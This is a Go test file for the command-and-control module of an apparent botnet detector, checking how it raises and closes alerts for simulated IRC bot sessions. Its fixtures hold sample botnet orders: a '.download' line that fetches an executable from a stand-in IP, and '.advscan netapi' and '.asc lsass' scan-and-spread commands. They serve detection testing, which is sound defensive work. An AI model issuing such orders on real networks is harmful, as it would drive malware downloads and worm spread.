package c2

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/wormwatch/wormwatch/internal/alert"
	"github.com/wormwatch/wormwatch/internal/packet"
)

const (
	topicScan  = ":irc.example.net 332 x #x :.advscan netapi 100 5 0 -b\r\n"
	topicFetch = ":irc.example.net 332 x #x :.download http://192.0.2.1/a.exe a.exe 1\r\n"
)

// TestStepsOfAnEpisode: a person becomes a bot by an order, is told again by the first
// order to sweep, and by no more of either.
func TestStepsOfAnEpisode(t *testing.T) {
	r := newRoom(t)
	c := r.connect(6667, unknown).introduces("alice", "al", "Alice")
	r.silent()
	c.welcomed("alice")
	r.only(alert.Create, alert.Low)
	c.says("JOIN #x\r\n")
	r.only(alert.Create, alert.Low)
	c.hears(topicFetch)
	r.last(alert.Update, alert.High)
	c.hears(topicScan).hears(topicFetch).hears(":irc.example.net 332 x #x :.asc lsass 50 3 0 -r\r\n")
	if r.steps() != "CUU" {
		t.Errorf("%q", r.summary())
	}
	c.ends()
	r.wait(24 * time.Hour)
	f := r.last(alert.Close, alert.High)
	if f.Time != c.now.UTC() || f.IRC.Open || !slices.Equal(f.IRC.Orders, []string{"download", "advscan", "asc"}) {
		t.Errorf("%s after %s, open %v, orders %v", f.Activity, f.Time, f.IRC.Open, f.IRC.Orders)
	}
	uids := map[string]bool{}
	for i, f := range r.findings {
		if f.Episode != r.findings[0].Episode || f.Sequence != i+1 || uids[f.UID] {
			t.Errorf("record %d: episode %s, sequence %d, uid %s", i, f.Episode, f.Sequence, f.UID)
		}
		uids[f.UID] = true
		if f.FirstSeen != start.UTC() {
			t.Errorf("record %d: first seen %s", i, f.FirstSeen)
		}
	}
	if n := len(r.judge.Open()); n != 0 {
		t.Errorf("%d episodes are open", n)
	}
}

// TestTheFirstRecordSaysThatTheSessionGoesOn: so does the first about another session.
func TestTheFirstRecordSaysThatTheSessionGoesOn(t *testing.T) {
	r := newRoom(t)
	c := r.connect(6667, unknown).registers("alice", "al", "Alice")
	if f := r.only(alert.Create, alert.Low); !f.IRC.Open {
		t.Error("the session is over before it began")
	}
	c.ends()
	c = r.connectTo(client, addr("198.51.100.9"), 4915, unknown).registers("DEU|XP|483920", lot, "x")
	if f := r.last(alert.Update, alert.High); !f.IRC.Open {
		t.Error("another one was told of as over")
	}
	c.ends()
	r.wait(25 * time.Hour)
	if f := r.last(alert.Close, alert.High); f.IRC.Open {
		t.Error("a session that ended goes on")
	}
}

func TestEpisodesOfOneHostFollowEachOther(t *testing.T) {
	r := newRoom(t)
	for range 2 {
		r.connect(6667, unknown).registers("alice", "al", "Alice").ends()
		r.wait(25 * time.Hour)
	}
	if r.steps() != "CCCC" || r.findings[0].Episode == r.findings[2].Episode {
		t.Errorf("%q", r.summary())
	}
}

// TestAnswers: a server that does not answer is told of when it was waited for, and told
// again when one does.
func TestAnswers(t *testing.T) {
	r := newRoom(t)
	c := r.connect(6667, unknown).introduces("alice", "al", "Alice")
	due := c.now.Add(30 * time.Second)
	r.wait(30*time.Second - 1)
	r.silent()
	r.wait(time.Hour)
	f := r.only(alert.Create, alert.Low)
	if f.Time != due.UTC() || f.IRC.Answered || weightOf(f, partUnanswered) == 0 {
		t.Errorf("at %s, want %s: %+v", f.Time, due.UTC(), f.IRC)
	}
	c.welcomed("alice")
	if f = r.last(alert.Update, alert.Low); !f.IRC.Answered {
		t.Errorf("%+v", f.IRC)
	}
	c.hears(":irc.example.net 002 alice :hello\r\n").says("JOIN #tea\r\n")
	if r.steps() != "CU" {
		t.Errorf("%q", r.summary())
	}
}

// TestABotIsToldOfWithItsAnswer: its first record waits for the server, though not for
// long, and not beyond the end of the connection by more.
func TestABotIsToldOfWithItsAnswer(t *testing.T) {
	bot := func(r *room) *chat {
		return r.connect(4915, unknown).introduces("DEU|XP|483920", lot, "DEU|XP|483920")
	}
	r := newRoom(t)
	c := bot(r)
	r.wait(time.Second)
	r.silent()
	c.welcomed("DEU|XP|483920")
	if f := r.only(alert.Create, alert.High); !f.IRC.Answered {
		t.Errorf("answered, and told as %+v", f.IRC)
	}

	for _, ends := range []bool{false, true} {
		r = newRoom(t)
		c = bot(r)
		due := c.now.Add(answerWithin)
		if ends {
			c.ends()
		}
		r.wait(10 * time.Second)
		if f := r.only(alert.Create, alert.High); f.IRC.Answered || f.Time != due.UTC() {
			t.Errorf("at %s, want %s: %+v", f.Time, due.UTC(), f.IRC)
		}
	}
}

// TestHalfAMirror: where no server is ever seen, none is dead.
func TestHalfAMirror(t *testing.T) {
	r := newRoom(t)
	c := r.connect(6667, unknown)
	c.talk.OneWay = true
	c.introduces("alice", "al", "Alice")
	r.wait(time.Minute)
	f := r.only(alert.Create, alert.Low)
	if weightOf(f, partUnanswered) != 0 || f.IRC.Visibility != alert.VisibilityOneWay || strings.Contains(f.Message, "nobody answered") {
		t.Errorf("%s, %s, %+v", f.Message, f.IRC.Visibility, f.IRC.Parts)
	}
}

// TestDeadServers: an attempt counts also if the connection ended before the wait did, and
// a bot that tries again and again is one episode of one record.
func TestDeadServers(t *testing.T) {
	r := newRoom(t)
	r.connect(6667, unknown).introduces("alice", "al", "Alice").ends()
	r.wait(time.Minute)
	r.only(alert.Create, alert.Low)

	r = newRoom(t)
	for range 100 {
		r.connect(4915, unknown).introduces("DEU|XP|483920", lot, "DEU|XP|483920").ends()
		r.wait(20 * time.Second)
	}
	r.only(alert.Create, alert.High)
	if n := r.judge.Stats().Open; n > 2 {
		t.Errorf("%d sessions are kept", n)
	}
	r.wait(25 * time.Hour)
	if f := r.last(alert.Close, alert.High); f.IRC.Answered || weightOf(f, partUnanswered) == 0 ||
		!strings.Contains(f.Message, "Over: 10.1.2.3 is a bot that calls home to") {
		t.Errorf("%s, %+v", f.Message, f.IRC)
	}
}

// TestAttemptsAreEvidence: those that are told of when they were waited for keep their
// episode open.
func TestAttemptsAreEvidence(t *testing.T) {
	r := newRoom(t)
	for range 5 {
		r.connect(6667, unknown).introduces("alice", "al", "Alice").ends()
		r.wait(20 * time.Hour)
	}
	r.only(alert.Create, alert.Low)
}

// TestRefused: a server that answers and does not welcome is told of, when it was waited
// for, as one that answers.
func TestRefused(t *testing.T) {
	r := newRoom(t)
	r.connect(6667, unknown).introduces("alice", "al", "Alice").hears("ERROR :Closing Link: you are banned\r\n").ends()
	r.silent()
	r.wait(time.Minute)
	if f := r.only(alert.Create, alert.Low); !f.IRC.Answered || weightOf(f, partUnanswered) != 0 {
		t.Errorf("%+v", f.IRC)
	}
}

// TestOpenSessionKeepsItsEpisode: while a session goes on its host's episode is not quiet,
// and Talking knows since when.
func TestOpenSessionKeepsItsEpisode(t *testing.T) {
	r := newRoom(t)
	talking := func(want packet.Time) {
		t.Helper()
		if since, ok := r.judge.Talking(client, 0); since != want || ok != (want != 0) {
			t.Errorf("talking since %d, %v; want %d", since, ok, want)
		}
	}
	silent := r.connectTo(client, addr("198.51.100.9"), 6667, known).registers("alice", "al", "Alice")
	talking(0)
	began := r.now
	c := r.connect(6667, unknown).introduces("alice", "al", "Alice")
	talking(0)
	c.welcomed("alice")
	talking(began)
	r.wait(10 * 24 * time.Hour)
	r.only(alert.Create, alert.Low)
	second := r.connect(6667, unknown).registers("alice", "al", "Alice")
	c.ends()
	talking(began)
	second.ends()
	talking(0)
	ended := r.now
	silent.says("JOIN #tea\r\n")
	r.wait(24*time.Hour - time.Millisecond - 1)
	r.only(alert.Create, alert.Low)
	r.wait(time.Hour)
	if f := r.last(alert.Close, alert.Low); f.Time != ended.Add(24*time.Hour).UTC() {
		t.Errorf("closed at %s", f.Time)
	}
}

// TestWhenAdvanceIsCalledMakesNoDifference: neither to what is found nor to its times.
func TestWhenAdvanceIsCalledMakesNoDifference(t *testing.T) {
	run := func(step time.Duration) (lines []string) {
		r := newRoom(t)
		pass := func(d time.Duration) {
			for ; d > step; d -= step {
				r.wait(step)
			}
			r.wait(d)
		}
		c := r.connect(6667, unknown).introduces("alice", "al", "Alice")
		pass(100 * time.Hour)
		c.ends()
		r.connectTo(host10(7), herder, 6667, unknown).introduces("bob", "b", "b").ends()
		pass(23 * time.Hour)
		r.connect(4915, unknown).introduces("bob", "b", "b").ends()
		pass(24*time.Hour + 10*time.Second) // the episode ends while the next one waits
		r.connect(6667, unknown).introduces("bob", "b", "b").ends()
		pass(60 * time.Hour)
		for _, f := range r.findings {
			lines = append(lines, f.Time.String()+" "+f.UID+" "+f.Message)
		}
		return lines
	}
	want := run(1000 * time.Hour)
	if len(want) != 6 {
		t.Fatalf("%q", want)
	}
	if got := run(7 * time.Second); !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
}
